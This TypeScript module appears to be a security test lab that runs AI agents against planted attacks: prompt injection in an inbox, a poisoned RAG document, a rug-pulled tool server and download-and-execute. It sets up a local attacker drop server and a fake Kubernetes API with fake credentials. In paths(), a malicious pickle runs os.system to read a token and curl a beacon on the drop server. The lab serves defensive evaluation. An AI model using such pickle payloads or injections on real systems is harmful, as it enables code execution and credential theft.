import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { type LabPostgres, startPostgres } from './postgres.js';
import { listen, type ScriptedModel, startScriptedModel } from './scripted-model.js';
import {
  type AgentName,
  type AgentPaths,
  type AttackName,
  type AttackPeers,
  type AttackPlan,
  attackPlan,
  benignTask,
  type LabTask,
  TOPICS,
} from './tasks.js';

const LAB_DIR = join(dirname(fileURLToPath(import.meta.url)), '..');

/** The Python interpreter with Debian's httpx (python3-httpx). */
export const LAB_PYTHON = '/usr/bin/python3';

/** One prepared agent run: the command and environment, and what to undo afterwards. */
export interface PreparedRun {
  readonly agent: AgentName;
  readonly seed: number;
  readonly task: LabTask;
  readonly attack?: AttackPlan;
  readonly argv: readonly string[];
  /** Variables the agent's process needs on top of the caller's environment. */
  readonly env: Readonly<Record<string, string>>;
  /** Removes what the attack planted (a poisoned document, a rug-pulled server, a dropped file). */
  cleanup(): void;
}

/** Options for {@link Lab.prepare}. */
export interface PrepareOptions {
  /** Write the run's OpenTelemetry GenAI spans (OTLP/JSON) to this file; the `openai-agents` agent only. */
  readonly spans?: string;
}

/** Options for {@link Lab.start}. */
export interface LabStartOptions {
  /** Start PostgreSQL for the RAG step (default true); when it cannot start, `postgresSkipped` says why. */
  readonly postgres?: boolean;
  /**
   * Serve the scripted model (and the docs service beside it) over HTTPS with a self-signed
   * certificate made at start (default false): the agents trust it through
   * `NODE_EXTRA_CA_CERTS` (Node.js) and `SSL_CERT_FILE` (Python's httpx), so their model calls
   * go through OpenSSL (`SSL_write`/`SSL_read`) as they would to a hosted model.
   */
  readonly tls?: boolean;
}

/**
 * The lab's shared services and per-agent workspaces: the scripted model, the
 * attacker's drop server (127.0.0.2), a fake Kubernetes API server
 * (127.0.0.3), and PostgreSQL with the team documents. One lab serves many
 * runs, so every run of an agent sees the same peers and paths.
 */
export class Lab {
  private readonly prepared = new Map<AgentName, AgentPaths>();
  private constructor(
    readonly root: string,
    readonly model: ScriptedModel,
    readonly peers: AttackPeers,
    private readonly servers: Server[],
    readonly postgres: LabPostgres | undefined,
    readonly postgresSkipped: string | undefined,
    private readonly counter: { bytes: number; bearers: string[] },
    /** The model's self-signed certificate when it serves HTTPS (`LabStartOptions.tls`). */
    readonly caFile?: string,
  ) {}

  /** Bytes the drop server has received (exfiltrated data). */
  get received(): number {
    return this.counter.bytes;
  }

  /** The bearer tokens the fake Kubernetes API server was called with. */
  get apiBearers(): readonly string[] {
    return this.counter.bearers;
  }

  /** Starts the services. */
  static async start(options: LabStartOptions = {}): Promise<Lab> {
    const root = mkdtempSync(join(tmpdir(), 'vigil-lab-'));
    let caFile: string | undefined;
    let tls: { key: string; cert: string } | undefined;
    if (options.tls === true) {
      const key = join(root, 'model-key.pem');
      caFile = join(root, 'model-cert.pem');
      execFileSync(
        'openssl',
        [
          ...['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', caFile, '-days', '2'],
          ...['-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'],
        ],
        { stdio: 'ignore' },
      );
      tls = { key: readFileSync(key, 'utf8'), cert: readFileSync(caFile, 'utf8') };
    }
    const model = await startScriptedModel(tls ? { tls } : {});
    const counter = { bytes: 0, bearers: [] as string[] };
    const drop = createServer((req, res) => {
      req.on('data', (c: Buffer) => {
        counter.bytes += c.length;
      });
      req.on('end', () => {
        if (req.url === '/update.sh') {
          res.writeHead(200, { 'content-type': 'text/x-shellscript' });
          res.end('#!/bin/sh\nuname -a > /dev/null\nid\n');
        } else res.end('ok\n');
      });
    });
    const api = createServer((req, res) => {
      req.resume();
      const auth = /^Bearer (.+)$/.exec(req.headers.authorization ?? '');
      if (auth) counter.bearers.push(auth[1]!);
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ kind: 'SecretList', apiVersion: 'v1', items: [] }));
    });
    const dropPort = await listen(drop, '127.0.0.2');
    const apiPort = await listen(api, '127.0.0.3');
    let pg: LabPostgres | undefined;
    let skipped: string | undefined;
    if (options.postgres === false) skipped = 'not requested';
    else
      try {
        pg = await startPostgres();
        pg.sql(
          'CREATE TABLE docs (id serial PRIMARY KEY, topic text NOT NULL, title text NOT NULL, body text NOT NULL)',
        );
        const rows = TOPICS.flatMap((t) => [
          `('${t}', '${t} overview', 'The ${t} service: owners, dependencies and SLOs.')`,
          `('${t}', '${t} runbook', 'When ${t} alerts fire, check the dashboard, then the last deploy.')`,
        ]);
        pg.sql(`INSERT INTO docs (topic, title, body) VALUES ${rows.join(', ')}`);
      } catch (err) {
        skipped = (err as Error).message;
      }
    return new Lab(
      root,
      model,
      { drop: `http://127.0.0.2:${dropPort}`, apiServer: `http://127.0.0.3:${apiPort}` },
      [drop, api],
      pg,
      skipped,
      counter,
      caFile,
    );
  }

  /** The workspace, home and (fake) credentials of `agent`, created on first use. */
  paths(agent: AgentName): AgentPaths {
    const known = this.prepared.get(agent);
    if (known) return known;
    const base = join(this.root, agent);
    const p: AgentPaths = {
      work: join(base, 'work'),
      home: join(base, 'home'),
      token: join(base, 'secrets', 'kubernetes.io', 'serviceaccount', 'token'),
      awsCredentials: join(base, 'home', '.aws', 'credentials'),
      sshKey: join(base, 'home', '.ssh', 'id_ed25519'),
      state: join(base, 'state'),
    };
    for (const d of [
      join(p.work, 'notes'),
      join(p.work, 'out'),
      join(p.work, 'models'),
      p.state,
      dirname(p.token),
    ])
      mkdirSync(d, { recursive: true });
    mkdirSync(dirname(p.awsCredentials), { recursive: true });
    mkdirSync(dirname(p.sshKey), { recursive: true, mode: 0o700 });
    writeFileSync(p.token, 'eyJhbGciOiJSUzI1NiJ9.lab-service-account-token.not-a-real-signature\n');
    writeFileSync(
      p.awsCredentials,
      '[default]\naws_access_key_id = AKIALABEXAMPLE0000\naws_secret_access_key = lab/not/a/secret\n',
    );
    writeFileSync(
      p.sshKey,
      '-----BEGIN OPENSSH PRIVATE KEY-----\nlab-key-not-a-real-key\n-----END OPENSSH PRIVATE KEY-----\n',
      {
        mode: 0o600,
      },
    );
    for (const t of TOPICS)
      writeFileSync(
        join(p.work, 'notes', `${t}.md`),
        `# ${t}\n\n- TODO: review ${t} alerts\n- owner: team-${t}\n- TODO: update the ${t} runbook\n`,
      );
    // The classifier the Python agent loads, and the "retrained" one whose pickle runs a payload when loaded.
    execFileSync(LAB_PYTHON, [
      '-c',
      [
        'import os, pickle, sys',
        'class Payload:',
        '    def __reduce__(self):',
        '        return (os.system, (sys.argv[3],))',
        "pickle.dump({'weights': [0.1, 0.2, 0.3], 'labels': ['ok', 'spam']}, open(sys.argv[1], 'wb'))",
        "pickle.dump(Payload(), open(sys.argv[2], 'wb'))",
      ].join('\n'),
      join(p.work, 'models', 'classifier.pkl'),
      join(p.work, 'models', 'classifier-v2.pkl'),
      `cat ${p.token} > /dev/null; curl -s -o /dev/null ${this.peers.drop}/beacon`,
    ]);
    this.prepared.set(agent, p);
    return p;
  }

  /** Writes the run's inbox and prompt, plants the attack (if any) and returns the command to run. */
  prepare(agent: AgentName, seed: number, attack?: AttackName, options: PrepareOptions = {}): PreparedRun {
    if (options.spans !== undefined && agent !== 'openai-agents')
      throw new Error(`only the openai-agents agent records GenAI spans, not ${agent}`);
    const p = this.paths(agent);
    const plan = attack ? attackPlan(attack, agent, p, this.peers) : undefined;
    if (plan?.ragDocument !== undefined && !this.postgres)
      throw new Error(`the ${attack} attack needs PostgreSQL, which did not start: ${this.postgresSkipped}`);
    const task = benignTask({
      agent,
      seed,
      paths: p,
      docsUrl: new URL(this.model.url).origin,
      noRag: this.postgres === undefined,
      ...(plan ? { require: plan.require } : {}),
    });
    writeFileSync(join(p.work, 'inbox.md'), task.inbox + (plan?.inboxInjection ?? ''));
    const promptFile = join(this.root, agent, 'prompt.txt');
    writeFileSync(promptFile, task.prompt);
    const cleanups: (() => void)[] = [];
    if (plan?.ragDocument !== undefined) {
      const body = plan.ragDocument.replaceAll("'", "''");
      this.postgres!.sql(
        `INSERT INTO docs (topic, title, body) VALUES ('${task.topic}', 'runbook update', '${body}')`,
      );
      cleanups.push(() => this.postgres!.sql(`DELETE FROM docs WHERE title = 'runbook update'`));
    }
    if (plan?.rugPull !== undefined) {
      const state = join(p.state, 'notes-server.json');
      writeFileSync(state, JSON.stringify({ description: plan.rugPull }));
      cleanups.push(() => rmSync(state, { force: true }));
    }
    if (attack === 'download-exec') cleanups.push(() => rmSync(`/tmp/.lab-update-${agent}`, { force: true }));
    const common = ['--llm-url', this.model.url, '--work', p.work, '--prompt', promptFile];
    const argv =
      agent === 'python'
        ? [LAB_PYTHON, join(LAB_DIR, 'python', 'agent.py'), ...common]
        : [
            process.execPath,
            '--import',
            import.meta.resolve('tsx'),
            join(LAB_DIR, 'src', 'main.ts'),
            '--agent',
            agent,
            ...common,
            ...(options.spans !== undefined ? ['--spans', options.spans] : []),
          ];
    const env: Record<string, string> = {
      HOME: p.home,
      LAB_STATE: p.state,
      KUBERNETES_SERVICE_HOST: new URL(this.peers.apiServer).hostname,
      KUBERNETES_SERVICE_PORT: new URL(this.peers.apiServer).port,
      ...(this.postgres ? { LAB_PG_URL: this.postgres.url } : {}),
      ...(this.caFile ? { NODE_EXTRA_CA_CERTS: this.caFile, SSL_CERT_FILE: this.caFile } : {}),
    };
    return {
      agent,
      seed,
      task,
      ...(plan ? { attack: plan } : {}),
      argv,
      env,
      cleanup: () => {
        for (const c of cleanups) c();
      },
    };
  }

  /** Stops the services and removes the workspaces. */
  async close(): Promise<void> {
    await this.model.close();
    for (const s of this.servers) {
      s.closeAllConnections();
      await new Promise<void>((r) => s.close(() => r()));
    }
    this.postgres?.stop();
    rmSync(this.root, { recursive: true, force: true });
  }
}
